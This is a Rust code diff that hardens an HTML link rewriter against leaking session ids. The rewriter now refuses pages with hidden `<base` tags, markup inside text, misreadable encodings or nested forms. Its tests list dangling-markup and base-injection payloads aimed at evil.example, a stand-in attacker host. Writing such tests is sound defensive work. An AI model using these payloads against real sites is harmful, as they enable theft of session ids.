@@ -3,12 +3,13 @@
 //! text, comments or script bodies that merely look like links.
 
 use std::borrow::Cow;
-use std::cell::RefCell;
+use std::cell::{Cell, RefCell};
+use std::rc::Rc;
 use std::sync::{Arc, Mutex, PoisonError};
 
-use lol_html::html_content::ContentType;
+use lol_html::html_content::{ContentType, TextChunk, TextType};
 use lol_html::send::{Element, HtmlRewriter, Settings};
-use lol_html::{HandlerResult, MemorySettings, element, text};
+use lol_html::{HandlerResult, MemorySettings, doc_comments, doc_text, element};
 use url::Url;
 
 use crate::session::error::{Error, Result};
@@ -118,11 +119,123 @@ fn encode_attribute(url: &str) -> Cow<'_, str> {
     }
 }
 
-/// `haystack` contains `needle`, ignoring ASCII case (`needle` is lower-case).
-fn contains_ignoring_case(haystack: &[u8], needle: &[u8]) -> bool {
+/// How many times `needle` (lower-case) occurs in `haystack`, ignoring ASCII case.
+fn count_ignoring_case(haystack: &[u8], needle: &[u8]) -> usize {
     haystack
         .windows(needle.len())
-        .any(|w| w.eq_ignore_ascii_case(needle))
+        .filter(|w| w.eq_ignore_ascii_case(needle))
+        .count()
+}
+
+/// The opening of a `<base` tag as raw bytes, whatever follows (`<base/href=…>`,
+/// `<BASE\thref=…>`; a `<basefont>` is counted too, which only errs on the safe side).
+const BASE_OPENING: &[u8] = b"<base";
+
+/// Why a browser may decode `body` into other characters than this parser (UTF-8 with ASCII
+/// bytes as ASCII), moving tags and quotes: a UTF-16 byte order mark (browsers then read
+/// UTF-16, whatever the headers say), NUL bytes (UTF-16 without one), or ESC bytes (the mode
+/// switches of ISO-2022-JP, under which ASCII bytes are read as parts of other characters).
+fn misreadable_encoding(body: &[u8]) -> Option<&'static str> {
+    if starts_with_utf16_bom(body) {
+        Some("starts with a UTF-16 byte order mark")
+    } else {
+        misreadable_bytes(body)
+    }
+}
+
+/// The size of a UTF-16 byte order mark.
+const UTF16_BOM_SIZE: usize = 2;
+
+fn starts_with_utf16_bom(body: &[u8]) -> bool {
+    body.starts_with(&[0xfe, 0xff]) || body.starts_with(&[0xff, 0xfe])
+}
+
+/// [`misreadable_encoding`] for bytes anywhere in a body: NUL and ESC.
+fn misreadable_bytes(body: &[u8]) -> Option<&'static str> {
+    if body.contains(&0) {
+        Some("holds NUL bytes (UTF-16 text?)")
+    } else if body.contains(&0x1b) {
+        Some("holds ESC bytes (ISO-2022-JP mode switches?)")
+    } else {
+        None
+    }
+}
+
+/// Watches the text of a page for markup that this parser read as text while a browser may
+/// read it as tags: a `<` followed by a letter, `/`, `!` or `?` in a CDATA section, in the
+/// raw text of `<style>`, `<noscript>`, `<iframe>`, `<xmp>`, `<noembed>`, `<noframes>`, in
+/// the text of `<title>` or `<textarea>`, or after `<plaintext>` — and, once the page has
+/// opened `<svg` or `<math`, in scripts (a `<script>` there is an SVG element whose content
+/// is markup) and comments. Whether such text is text depends on the parser's view of the
+/// tree (SVG or MathML around it, scripts on or off, `<select>`), which tokenizers — a
+/// browser's own preload scanner included — do not all share; a tag one of them opens there
+/// can hold the rewritten links that follow inside one of its attributes
+/// (`<img src='//elsewhere/?…`) or set the page's base. Scripts and comments of pages
+/// without SVG or MathML are not watched: every parser reads them alike, and they routinely
+/// hold markup.
+#[derive(Debug, Default)]
+struct TextWatch {
+    /// The last character of the text node so far was a `<`.
+    after_lt: bool,
+    /// The raw bytes so far hold `<svg` or `<math`: scripts are watched too.
+    foreign: bool,
+    /// Such markup was found.
+    found: bool,
+}
+
+/// The openings of the tags that start foreign content (SVG, MathML), as raw bytes.
+const FOREIGN_OPENINGS: [&[u8]; 2] = [b"<svg", b"<math"];
+
+/// The longest of [`FOREIGN_OPENINGS`].
+const FOREIGN_OPENING_MAX: usize = 5;
+
+/// Whether `bytes` hold the opening of an SVG or MathML tag, ignoring ASCII case.
+fn opens_foreign_content(bytes: &[u8]) -> bool {
+    FOREIGN_OPENINGS
+        .iter()
+        .any(|tag| count_ignoring_case(bytes, tag) > 0)
+}
+
+impl TextWatch {
+    fn feed(&mut self, chunk: &TextChunk<'_>) {
+        let watched = match chunk.text_type() {
+            TextType::CDataSection | TextType::RawText | TextType::RCData | TextType::PlainText => {
+                true
+            }
+            TextType::ScriptData => self.foreign,
+            TextType::Data => false,
+        };
+        if watched {
+            self.scan(chunk.as_str());
+        }
+        if !watched || chunk.last_in_text_node() {
+            self.after_lt = false;
+        }
+    }
+
+    /// A comment, watched in pages with SVG or MathML: where this parser and a browser
+    /// disagree about being in foreign content, one may read `<!--` inside a `<style>` as the
+    /// start of a comment and the other as text, and the comment hides from this parser a
+    /// tag the browser reads.
+    fn comment(&mut self, text: &str) {
+        if self.foreign {
+            self.scan(text);
+            self.after_lt = false;
+        }
+    }
+
+    fn scan(&mut self, text: &str) {
+        if self.found {
+            return;
+        }
+        for b in text.bytes() {
+            if self.after_lt && (b.is_ascii_alphabetic() || matches!(b, b'/' | b'!' | b'?')) {
+                self.found = true;
+                return;
+            }
+            self.after_lt = b == b'<';
+        }
+    }
 }
 
 /// What the rewriter must know about the whole page before it rewrites any link.
@@ -130,28 +243,45 @@ fn contains_ignoring_case(haystack: &[u8], needle: &[u8]) -> bool {
 struct Prescan {
     /// Every `<base href>`, in document order.
     bases: Vec<BaseHref>,
-    /// A `<noscript>` holds what may be a `<base>`: the parser reads it as text, browsers
-    /// without scripts as markup.
-    hidden_base: bool,
+    /// How many `base` start tags the parser saw (with or without `href`, in any namespace).
+    base_tags: usize,
+    /// Every form's `action` (entity-decoded; `""` without one; `None` if undecidable), when
+    /// asked for: a field added to one form may be submitted by another (the browser drops a
+    /// nested `<form>` tag, and its fields join the outer form).
+    form_actions: Vec<Option<String>>,
+    /// A `<form>` tag came before the end tag of the one before it: browsers drop such a tag
+    /// and put the fields that follow into the earlier form (also one closed only implicitly,
+    /// `<div><form></div><form>`: a form stays open to the parser until its `</form>`).
+    nested_forms: bool,
     /// Every `formaction` (entity-decoded; `None` if undecidable): a submit button anywhere in
     /// the page may submit a form (`form=` reaches across the page).
-    form_actions: Vec<Option<String>>,
+    button_actions: Vec<Option<String>>,
 }
 
-/// Reads what [`Prescan`] holds. Skips the parse when the body cannot hold any of it.
-fn prescan(body: &[u8]) -> Result<Prescan> {
+/// Reads what [`Prescan`] holds (forms only if `forms`). Skips the parse when the body cannot
+/// hold any of it.
+fn prescan(body: &[u8], forms: bool) -> Result<Prescan> {
     let mut scan = Prescan::default();
-    if !contains_ignoring_case(body, b"<base") && !contains_ignoring_case(body, b"formaction") {
+    if count_ignoring_case(body, BASE_OPENING) == 0
+        && count_ignoring_case(body, b"formaction") == 0
+        && !(forms && count_ignoring_case(body, b"<form") > 0)
+    {
         return Ok(scan);
     }
     let bases = RefCell::new(Vec::new());
-    let mut noscript = Vec::new();
+    let mut base_tags = 0;
     let mut form_actions = Vec::new();
+    let mut nested_forms = false;
+    let form_open = Rc::new(Cell::new(false));
+    let mut button_actions = Vec::new();
     let settings = lol_html::Settings::new()
+        .append_element_content_handler(element!("base", |_| {
+            base_tags += 1;
+            Ok(())
+        }))
         .append_element_content_handler(element!("base[href]", |el| {
-            let href = el.get_attribute("href").unwrap_or_default();
             bases.borrow_mut().push(BaseHref {
-                href: decode_attribute(&href).map(Cow::into_owned),
+                href: base_href(el.get_attribute("href").as_deref()),
                 inert: el.namespace_uri() != HTML_NAMESPACE,
             });
             Ok(())
@@ -164,14 +294,26 @@ fn prescan(body: &[u8]) -> Result<Prescan> {
             }
             Ok(())
         }))
-        // Text chunks can split a tag: keep all of it and search it once.
-        .append_element_content_handler(text!("noscript", |t| {
-            noscript.extend_from_slice(t.as_str().as_bytes());
+        .append_element_content_handler(element!("form", |el| {
+            if forms {
+                let action = el.get_attribute("action").unwrap_or_default();
+                form_actions.push(decode_attribute(&action).map(Cow::into_owned));
+                nested_forms |= form_open.replace(true);
+                let open = Rc::clone(&form_open);
+                let on_end: lol_html::EndTagHandler<'static> = Box::new(move |end| {
+                    // Called with another end tag when that one closes the form implicitly.
+                    if end.name().eq_ignore_ascii_case("form") {
+                        open.set(false);
+                    }
+                    Ok(())
+                });
+                el.on_end_tag(on_end)?;
+            }
             Ok(())
         }))
         .append_element_content_handler(element!("button[formaction], input[formaction]", |el| {
             let action = el.get_attribute("formaction").unwrap_or_default();
-            form_actions.push(decode_attribute(&action).map(Cow::into_owned));
+            button_actions.push(decode_attribute(&action).map(Cow::into_owned));
             Ok(())
         }))
         .with_memory_settings(
@@ -181,9 +323,27 @@ fn prescan(body: &[u8]) -> Result<Prescan> {
     parser.write(body).map_err(html_error)?;
     parser.end().map_err(html_error)?;
     scan.bases = bases.into_inner();
-    scan.hidden_base = contains_ignoring_case(&noscript, b"<base");
+    scan.base_tags = base_tags;
     scan.form_actions = form_actions;
+    scan.nested_forms = nested_forms;
+    scan.button_actions = button_actions;
     Ok(scan)
+}
+
+/// The `href` of a `<base>` as [`BaseHref`] keeps it: `None` if it holds a reference the
+/// decoder is unsure of, or anything but ASCII (a browser that reads the page in another
+/// encoding than UTF-8 — it may, when the response names none — reads other characters).
+fn base_href(raw: Option<&str>) -> Option<String> {
+    decode_attribute(raw.unwrap_or_default())
+        .filter(|href| href.is_ascii())
+        .map(Cow::into_owned)
+}
+
+/// The error for a body that is served without ids, and why.
+fn refused(why: &str) -> Error {
+    Error::Html {
+        reason: format!("the body {why}; it is served without session ids"),
+    }
 }
 
 fn html_error(e: lol_html::errors::RewritingError) -> Error {
@@ -204,30 +364,66 @@ impl UrlRewriter {
     /// parser's own clean-up (surrounding whitespace and control characters, tabs and
     /// newlines, backslashes as slashes). A form without an `action`, or with an empty
     /// one, submits to the page itself, and an empty `formaction` likewise. Where the page
-    /// leaves doubt about its base (a `<base>` inside `<noscript>`, `<template>`, `<select>`
-    /// or SVG, which browsers read differently from one another or from this parser), a link
-    /// that gets the id is written as an absolute URL, so that the id goes to the
-    /// application whatever base a browser uses. Links with a `ping` outside the base get no
-    /// id (the ping would be told the link's target).
+    /// leaves doubt about its base (a `<base>` inside `<template>`, `<select>` or SVG, which
+    /// browsers read differently from one another or from this parser), a link that gets the
+    /// id is written as an absolute URL, so that the id goes to the application whatever base
+    /// a browser uses. Links with a `ping` outside the base get no id (the ping would be told
+    /// the link's target).
     ///
     /// In query style a `GET` form under the base also gets a hidden field with the id,
     /// because browsers drop the query of a `GET` form's action — unless a submit button
-    /// anywhere in the page has a `formaction` that may go outside the base (the field would
-    /// go with it).
+    /// anywhere in the page (`formaction`) may go outside the base, or forms nest (browsers
+    /// drop the inner `<form>` tag and its fields join the outer form) and one of them may, or
+    /// the raw bytes hold a `<form` or a `formaction` the parser did not see as one (the field
+    /// would go with it).
+    ///
+    /// **Fails closed.** An HTML tokenizer and a browser can disagree about what is markup
+    /// (CDATA in SVG or MathML, `<noscript>` with scripts off, a browser's preload scanner),
+    /// and a tag only the browser sees can set the page's base or hold the rewritten links that
+    /// follow inside one of its attributes. So the page is not rewritten at all — it comes back
+    /// as [`Error::Html`], to be served as it was, without ids — when its raw bytes hold a
+    /// `<base` (any case) that the parser did not see as a `base` tag (in text, a comment, a
+    /// script, an attribute), when text that the parser read as text holds markup (a `<`
+    /// followed by a letter, `/`, `!` or `?` in CDATA, `<style>`, `<noscript>`, `<iframe>`,
+    /// `<xmp>`, `<noembed>`, `<noframes>`, `<textarea>`, `<title>`, after `<plaintext>`, and in
+    /// scripts and comments of a page that has `<svg` or `<math`), or when a browser may decode
+    /// the bytes otherwise (a UTF-16 byte order mark, NUL or ESC bytes). Such pages are rare in
+    /// applications that escape what they print; a visitor without cookies who follows a link
+    /// from one starts a new session.
     ///
     /// The body is read as UTF-8 (bytes that are not pass through untouched). Everything
     /// other than the rewritten attributes is copied as it was.
     ///
     /// # Errors
-    /// [`Error::Html`] if the parser gives up (markup it cannot parse unambiguously, or a tag
-    /// beyond [`HTML_MEMORY_LIMIT`]); the caller still has the body as it was.
+    /// [`Error::Html`] if the page is refused (above), or if the parser gives up (markup it
+    /// cannot parse unambiguously, or a tag beyond [`HTML_MEMORY_LIMIT`]); the caller still
+    /// has the body as it was.
     pub fn rewrite_html(&self, body: &[u8], document: &Url, id: &SessionId) -> Result<Vec<u8>> {
-        let scan = prescan(body)?;
-        let bases = Bases::new(self, document, id, &scan.bases, scan.hidden_base);
-        let hidden_field_allowed = scan.form_actions.iter().all(|action| match action {
+        if let Some(why) = misreadable_encoding(body) {
+            return Err(refused(why));
+        }
+        let query = self.url_style() == UrlStyle::Query;
+        let scan = prescan(body, query)?;
+        if count_ignoring_case(body, BASE_OPENING) > scan.base_tags {
+            return Err(refused(
+                "holds a `<base` that the HTML parser did not read as a base tag (in text, a \
+                 comment, a script or an attribute), which a browser may",
+            ));
+        }
+        let bases = Bases::new(self, document, id, &scan.bases, false);
+        let goes_under_base = |action: &Option<String>| match action {
             Some(a) if a.is_empty() => self.is_under_base(document),
             Some(a) => self.always_under_base(a, &bases),
             None => false,
+        };
+        let hidden_field_allowed = query
+            && count_ignoring_case(body, b"<form") == scan.form_actions.len()
+            && count_ignoring_case(body, b"formaction") == scan.button_actions.len()
+            && (!scan.nested_forms || scan.form_actions.iter().all(goes_under_base))
+            && scan.button_actions.iter().all(goes_under_base);
+        let watch = Mutex::new(TextWatch {
+            foreign: opens_foreign_content(body),
+            ..TextWatch::default()
         });
         let mut out = Vec::with_capacity(body.len() + body.len() / 8);
         let handler = element!(SELECTOR, |el| {
@@ -235,12 +431,34 @@ impl UrlRewriter {
         });
         let settings = Settings::new_send()
             .append_element_content_handler(handler)
+            .append_document_content_handler(doc_text!(|t| {
+                watch.lock().unwrap_or_else(PoisonError::into_inner).feed(t);
+                Ok(())
+            }))
+            .append_document_content_handler(doc_comments!(|c| {
+                let text = c.text();
+                watch
+                    .lock()
+                    .unwrap_or_else(PoisonError::into_inner)
+                    .comment(&text);
+                Ok(())
+            }))
             .with_memory_settings(
                 MemorySettings::new().with_max_allowed_memory_usage(HTML_MEMORY_LIMIT),
             );
         let mut rewriter = HtmlRewriter::new(settings, |chunk: &[u8]| out.extend_from_slice(chunk));
         rewriter.write(body).map_err(html_error)?;
         rewriter.end().map_err(html_error)?;
+        if watch
+            .into_inner()
+            .unwrap_or_else(PoisonError::into_inner)
+            .found
+        {
+            return Err(refused(
+                "holds markup in text that the HTML parser read as text (CDATA, `<style>`, \
+                 `<noscript>`, `<textarea>`, `<title>` …), which a browser may read as tags",
+            ));
+        }
         Ok(out)
     }
 
@@ -333,6 +551,12 @@ impl UrlRewriter {
 /// far (or the page's address), and in query style no form gets a hidden id field (a submit
 /// button further on might send it elsewhere). A page whose `<base>` comes after links to
 /// other places may see those links pointed at the application; the id never leaves it.
+///
+/// A stream cannot refuse a page it has partly sent, as [`rewrite`](Self::rewrite) does;
+/// it stops adding ids instead, from the point where the parser finds markup in text (see
+/// [`UrlRewriter::rewrite_html`]) or bytes a browser may decode otherwise: links after that
+/// point are copied as they are. (A `<base>` the parser did not see needs no such care here:
+/// every link with the id is absolute.)
 #[derive(Clone, Debug)]
 pub struct PageRewrite {
     urls: UrlRewriter,
@@ -368,15 +592,16 @@ impl PageRewrite {
         let state = Arc::new(Mutex::new(StreamState {
             bases: Bases::new(&self.urls, &self.document, &self.id, &[], true),
             found: Vec::new(),
+            watch: TextWatch::default(),
+            misread: false,
         }));
         let out = Arc::new(Mutex::new(Vec::new()));
         let (urls, document, id) = (self.urls.clone(), self.document.clone(), self.id);
         let base_state = Arc::clone(&state);
         let on_base = element!("base[href]", move |el| {
-            let href = el.get_attribute("href").unwrap_or_default();
             let mut st = base_state.lock().unwrap_or_else(PoisonError::into_inner);
             st.found.push(BaseHref {
-                href: decode_attribute(&href).map(Cow::into_owned),
+                href: base_href(el.get_attribute("href").as_deref()),
                 inert: el.namespace_uri() != HTML_NAMESPACE,
             });
             st.bases = Bases::new(&urls, &document, &id, &st.found, true);
@@ -394,15 +619,40 @@ impl PageRewrite {
             st.bases = Bases::new(&urls, &document, &id, &st.found, true);
             Ok(())
         });
+        let text_state = Arc::clone(&state);
+        let on_text = doc_text!(move |t| {
+            text_state
+                .lock()
+                .unwrap_or_else(PoisonError::into_inner)
+                .watch
+                .feed(t);
+            Ok(())
+        });
+        let comment_state = Arc::clone(&state);
+        let on_comment = doc_comments!(move |c| {
+            let text = c.text();
+            comment_state
+                .lock()
+                .unwrap_or_else(PoisonError::into_inner)
+                .watch
+                .comment(&text);
+            Ok(())
+        });
         let (urls, document, id) = (self.urls.clone(), self.document.clone(), self.id);
+        let link_state = Arc::clone(&state);
         let on_link = element!(SELECTOR, move |el| {
-            let st = state.lock().unwrap_or_else(PoisonError::into_inner);
+            let st = link_state.lock().unwrap_or_else(PoisonError::into_inner);
+            if st.disarmed() {
+                return Ok(());
+            }
             urls.rewrite_element(el, &st.bases, &document, &id, false)
         });
         let settings = Settings::new_send()
             .append_element_content_handler(on_base)
             .append_element_content_handler(in_template)
             .append_element_content_handler(on_link)
+            .append_document_content_handler(on_text)
+            .append_document_content_handler(on_comment)
             .with_memory_settings(
                 MemorySettings::new().with_max_allowed_memory_usage(HTML_MEMORY_LIMIT),
             );
@@ -413,17 +663,37 @@ impl PageRewrite {
                 .extend_from_slice(chunk);
         });
         let rewriter = HtmlRewriter::new(settings, sink);
-        PageStream { rewriter, out }
+        PageStream {
+            rewriter,
+            out,
+            state,
+            started: false,
+            head: Vec::new(),
+            passthrough: false,
+            tail: Vec::new(),
+        }
     }
 }
 
 /// Where a [`PageStream`]'s rewriter writes: a buffer the stream drains after each chunk.
 type Sink = Box<dyn FnMut(&[u8]) + Send>;
 
-/// What the handlers of a [`PageStream`] share: the `<base href>`s seen so far.
+/// What the handlers of a [`PageStream`] share.
 struct StreamState {
+    /// The bases of the `<base href>`s seen so far.
     bases: Bases,
     found: Vec<BaseHref>,
+    /// Markup in text so far?
+    watch: TextWatch,
+    /// Bytes a browser may decode otherwise so far?
+    misread: bool,
+}
+
+impl StreamState {
+    /// Whether links from here on are left alone.
+    fn disarmed(&self) -> bool {
+        self.watch.found || self.misread
+    }
 }
 
 /// An HTML body being rewritten chunk by chunk ([`PageRewrite::stream`]): write each chunk,
@@ -431,6 +701,15 @@ struct StreamState {
 pub struct PageStream {
     rewriter: HtmlRewriter<'static, Sink>,
     out: Arc<Mutex<Vec<u8>>>,
+    state: Arc<Mutex<StreamState>>,
+    /// Whether the body's first bytes have been looked at (and fed to the rewriter).
+    started: bool,
+    /// The body's first bytes, held until there are enough to tell a UTF-16 byte order mark.
+    head: Vec<u8>,
+    /// The body is UTF-16: copied as it is.
+    passthrough: bool,
+    /// The last bytes fed, for a `<svg` or `<math` cut across chunks.
+    tail: Vec<u8>,
 }
 
 impl std::fmt::Debug for PageStream {
@@ -451,6 +730,38 @@ impl PageStream {
     /// [`Error::Html`] if the parser gives up (a tag beyond [`HTML_MEMORY_LIMIT`]); the
     /// stream is then unusable.
     pub fn write(&mut self, chunk: &[u8]) -> Result<Vec<u8>> {
+        if self.passthrough {
+            return Ok(chunk.to_vec());
+        }
+        if !self.started {
+            // The first two bytes decide whether the body is UTF-16 (a byte order mark).
+            self.head.extend_from_slice(chunk);
+            if self.head.len() < UTF16_BOM_SIZE {
+                return Ok(Vec::new());
+            }
+            self.started = true;
+            let head = std::mem::take(&mut self.head);
+            if starts_with_utf16_bom(&head) {
+                self.passthrough = true;
+                return Ok(head);
+            }
+            return self.feed(&head);
+        }
+        self.feed(chunk)
+    }
+
+    fn feed(&mut self, chunk: &[u8]) -> Result<Vec<u8>> {
+        {
+            let mut st = self.state.lock().unwrap_or_else(PoisonError::into_inner);
+            st.misread |= misreadable_bytes(chunk).is_some();
+            if !st.watch.foreign {
+                // A tag opening cut across chunks: the last bytes of the one before.
+                self.tail.extend_from_slice(chunk);
+                st.watch.foreign = opens_foreign_content(&self.tail);
+                let keep = self.tail.len().min(FOREIGN_OPENING_MAX - 1);
+                self.tail.drain(..self.tail.len() - keep);
+            }
+        }
         self.rewriter.write(chunk).map_err(html_error)?;
         Ok(self.drain())
     }
@@ -459,12 +770,19 @@ impl PageStream {
     ///
     /// # Errors
     /// As [`write`](Self::write).
-    pub fn end(self) -> Result<Vec<u8>> {
-        let out = Arc::clone(&self.out);
+    pub fn end(mut self) -> Result<Vec<u8>> {
+        if self.passthrough {
+            return Ok(Vec::new());
+        }
+        let mut out = Vec::new();
+        if !self.started {
+            let head = std::mem::take(&mut self.head);
+            out = self.feed(&head)?;
+        }
+        let sink = Arc::clone(&self.out);
         self.rewriter.end().map_err(html_error)?;
-        Ok(std::mem::take(
-            &mut *out.lock().unwrap_or_else(PoisonError::into_inner),
-        ))
+        out.append(&mut sink.lock().unwrap_or_else(PoisonError::into_inner));
+        Ok(out)
     }
 }
 
@@ -551,8 +869,109 @@ mod tests {
 
     #[test]
     fn leaves_text_comments_and_scripts_alone() {
-        let html = r#"<p>see href="/app/x"</p><!-- <a href="/app/y"> --><script>var s = '<a href="/app/z">';</script><textarea><a href="/app/t"></textarea>"#;
+        let html = r#"<p>see href="/app/x"</p><!-- <a href="/app/y"> --><script>var s = '<a href="/app/z">';</script><textarea>a &lt;a href="/app/t"></textarea><style>a > b { x: "<" }</style>"#;
         assert_eq!(rewrite(&path_rw(), html), html);
+        // Markup in a <textarea> is text to this parser, and may be tags to a browser: the
+        // page is served as it was.
+        let html = r#"<a href="/app/x">x</a><textarea><a href="/app/t"></textarea>"#;
+        assert!(refused(&path_rw(), html), "{html}");
+    }
+
+    /// Whether the page is refused (served as it was, without ids).
+    fn refused(rw: &UrlRewriter, html: &str) -> bool {
+        let doc = rw.document_url("/app/page", None);
+        match rw.rewrite_html(html.as_bytes(), &doc, &id()) {
+            Err(Error::Html { reason }) => reason.contains("served without session ids"),
+            Err(e) => panic!("{html}: {e}"),
+            Ok(_) => false,
+        }
+    }
+
+    #[test]
+    fn pages_a_browser_may_read_otherwise_are_not_rewritten() {
+        let links = r#"<img src="/app/pixel"><a href="/app/x">x</a><p title='end'>"#;
+        for attack in [
+            // A <base> this parser reads as text, a comment, a script or an attribute.
+            r#"<svg><![CDATA[<base href="//evil.example/app/">]]></svg>"#,
+            r#"<svg><![CDATA[><base href="//evil.example/app/">]]></svg>"#,
+            r#"<math><![CDATA[><base href="//evil.example/app/">]]></math>"#,
+            r#"<noscript><base href="//evil.example/app/"></noscript>"#,
+            r#"<!-- <BASE/href=//evil.example/app/> -->"#,
+            r#"<script>document.write('<base	href=//evil.example/app/>')</script>"#,
+            r#"<p title="<base href=//evil.example/app/>">"#,
+            r#"<style><base href="//evil.example/app/"></style>"#,
+            // An attribute opened where this parser sees text, closed after the links.
+            r#"<svg><![CDATA[><img src='//evil.example/x?]]></svg>"#,
+            r#"<noscript><img src='//evil.example/x?</noscript>"#,
+            r#"<title></title><textarea></textarea><xmp><img src='//evil.example/x?</xmp>"#,
+            r#"<iframe><img src='//evil.example/x?</iframe>"#,
+            r#"<style>x{}</style><style></style ><style>a{}</x><img src='//evil.example/x?</style>"#,
+            r#"<plaintext><img src='//evil.example/x?"#,
+            // A script in a page with SVG or MathML may be an SVG element, its text markup.
+            r#"<math></math><script>var s = '<b>';</script>"#,
+            // ... and a comment there may be text to a browser (a foreign <style> to one, an
+            // HTML one to the other).
+            r#"<svg><font color=x><style><!--</style><img src='//evil.example/x?-->"#,
+            r#"<svg></svg><!-- <img src='//evil.example/x? -->"#,
+            r#"<script>var s = '<b>';</script><SVG></SVG>"#,
+        ] {
+            for html in [format!("{attack}{links}"), format!("{links}{attack}")] {
+                assert!(refused(&path_rw(), &html), "{html}");
+                assert!(refused(&path_rw().style(UrlStyle::Query), &html), "{html}");
+            }
+        }
+        // Bytes a browser may decode otherwise: a UTF-16 byte order mark, NUL (UTF-16
+        // without one), ESC (ISO-2022-JP's mode switches, which swallow quotes).
+        for prefix in [
+            &b"\xff\xfe"[..],
+            b"\xfe\xff",
+            b"<p>\0</p>",
+            b"<p>\x1b$B</p>",
+        ] {
+            let body = [prefix, links.as_bytes()].concat();
+            let doc = path_rw().document_url("/app/page", None);
+            assert!(
+                path_rw().rewrite_html(&body, &doc, &id()).is_err(),
+                "{prefix:?}"
+            );
+        }
+        // Text that merely compares or quotes stays rewritable.
+        let fine = format!(
+            "<style>a>b{{}} a:after{{content:'<'}}</style><title>1 < 2</title>\
+             <textarea>a < b; a &lt;b></textarea><script>if (a<b) x = '<b>';</script>{links}"
+        );
+        assert!(!refused(&path_rw(), &fine), "{fine}");
+        assert!(rewrite(&path_rw(), &fine).contains(&format!("/app/x/-/{ID}")));
+    }
+
+    #[test]
+    fn no_hidden_id_field_where_forms_may_nest() {
+        let rw = path_rw().style(UrlStyle::Query);
+        let hidden = format!(r#"<input type="hidden" name="sid" value="{ID}">"#);
+        for html in [
+            // Browsers drop the inner <form> tag: its fields go to the outer form.
+            r#"<form action="//evil.example/"><form action="/app/search"><input name="q"></form></form>"#,
+            // ... also when the outer one was closed only implicitly.
+            r#"<div><form action="//evil.example/"></div><form action="/app/search"><input name="q"></form>"#,
+            // A <form> or formaction this parser did not see as one.
+            r#"<!-- <form action="//evil.example/"> --><form action="/app/search"></form>"#,
+            r#"<form action="/app/search"></form><!-- <button formaction="//evil.example/"> -->"#,
+        ] {
+            let out = rewrite(&rw, html);
+            assert!(!out.contains(&hidden), "{out}");
+        }
+        // Forms side by side keep their fields to themselves.
+        let out = rewrite(
+            &rw,
+            r#"<form action="//evil.example/"></form><form action="/app/search"><input name="q"></form>"#,
+        );
+        assert!(out.contains(&hidden), "{out}");
+        // Nested forms that all go to the application may carry it.
+        let out = rewrite(
+            &rw,
+            r#"<form action="/app/a"><form action="/app/search"><input name="q"></form></form>"#,
+        );
+        assert!(out.contains(&hidden), "{out}");
     }
 
     #[test]
@@ -711,22 +1130,29 @@ mod tests {
 
     #[test]
     fn bases_the_parser_may_read_otherwise_than_a_browser() {
-        // A <base> in a <template> or in SVG is no base for browsers; one in <noscript> is
-        // one for browsers without scripts (the parser reads <noscript> as text). Whatever
-        // base applies, a link carrying the id goes to the application: written absolute
-        // when the bases disagree on where a site-relative link goes.
+        // A <base> in a <template> or in SVG is no base for browsers, but other tokenizers
+        // (a preload scanner) may take it for one. Whatever base applies, a link carrying the
+        // id goes to the application: written absolute when the bases disagree on where a
+        // site-relative link goes.
         let abs = format!("http://localhost:3000/app/x/-/{ID}");
         for html in [
             r#"<template><base href="/app/"></template><base href="//evil.example/"><a href="/app/x">x</a>"#,
             r#"<svg><base href="/app/"></svg><base href="//evil.example/"><a href="/app/x">x</a>"#,
-            r#"<noscript><base href="//evil.example/"></noscript><a href="/app/x">x</a>"#,
-            r#"<noscript><p><BASE HREF=//evil.example/></p></noscript><a href="/app/x">x</a>"#,
             r#"<select><base href="/app/"></select><base href="//evil.example/"><a href="/app/x">x</a>"#,
+            r#"<svg><base href="//evil.example/"></svg><a href="/app/x">x</a>"#,
         ] {
             let out = rewrite(&path_rw(), html);
             for link in with_id(&out) {
                 assert_eq!(link, abs, "{out}");
             }
+        }
+        // A <base> in <noscript> is one for browsers without scripts, and text to this
+        // parser: the page is not rewritten at all.
+        for html in [
+            r#"<noscript><base href="//evil.example/"></noscript><a href="/app/x">x</a>"#,
+            r#"<noscript><p><BASE HREF=//evil.example/></p></noscript><a href="/app/x">x</a>"#,
+        ] {
+            assert!(refused(&path_rw(), html), "{html}");
         }
         // Where the base is certain, the first real one decides.
         let out = rewrite(
@@ -734,6 +1160,13 @@ mod tests {
             r#"<template><base href="/app/"></template><base href="//evil.example/"><a href="/app/x">x</a>"#,
         );
         assert!(with_id(&out).is_empty(), "{out}");
+        // A base href with anything but ASCII is read otherwise by a browser that decodes the
+        // page in another charset: treated as unknown, so links with the id are absolute.
+        let out = rewrite(
+            &path_rw(),
+            r#"<base href="/app/sub/&#xe9;/"><a href="/app/x">x</a>"#,
+        );
+        assert_eq!(with_id(&out), [abs.as_str()], "{out}");
     }
 
     #[test]
@@ -884,6 +1317,54 @@ mod tests {
         }
         out.extend(stream.end().unwrap());
         String::from_utf8(out).unwrap()
+    }
+
+    #[test]
+    fn a_stream_stops_adding_ids_where_a_browser_may_read_otherwise() {
+        let before = r#"<a href="/app/a">a</a>"#;
+        let after = r#"<a href="/app/b">b</a><p title='end'>"#;
+        for attack in [
+            r#"<svg><![CDATA[><img src='//evil.example/x?]]></svg>"#,
+            r#"<noscript><img src='//evil.example/x?</noscript>"#,
+            "<p>\x1b$B</p>",
+            "<p>\0</p>",
+            "<svg></svg><script>'<b>'</script>",
+        ] {
+            let html = format!("{before}{attack}{after}");
+            let first = format!("http://localhost:3000/app/a/-/{ID}");
+            for chunk in [1, 5, html.len()] {
+                let out = stream(&path_rw(), &html, chunk);
+                let ids = with_id(&out);
+                // Bytes that may be decoded otherwise stop ids from their whole chunk on.
+                assert!(
+                    ids == [first.as_str()] || ids.is_empty(),
+                    "chunk {chunk}: {out}"
+                );
+                if chunk == 1 {
+                    assert_eq!(ids, [first.as_str()], "{out}");
+                }
+            }
+        }
+        // A UTF-16 byte order mark: no ids at all.
+        let html = format!("\u{feff}{before}");
+        let utf16: Vec<u8> = [0xff, 0xfe]
+            .into_iter()
+            .chain(html.bytes().skip(3))
+            .collect();
+        let page = crate::session::PageRewrite::new(
+            path_rw(),
+            path_rw().document_url("/app/page", None),
+            id(),
+        );
+        for chunk in [1, 2, utf16.len()] {
+            let mut stream = page.stream();
+            let mut out = Vec::new();
+            for piece in utf16.chunks(chunk) {
+                out.extend(stream.write(piece).unwrap());
+            }
+            out.extend(stream.end().unwrap());
+            assert_eq!(out, utf16, "chunk {chunk}");
+        }
     }
 
     #[test]
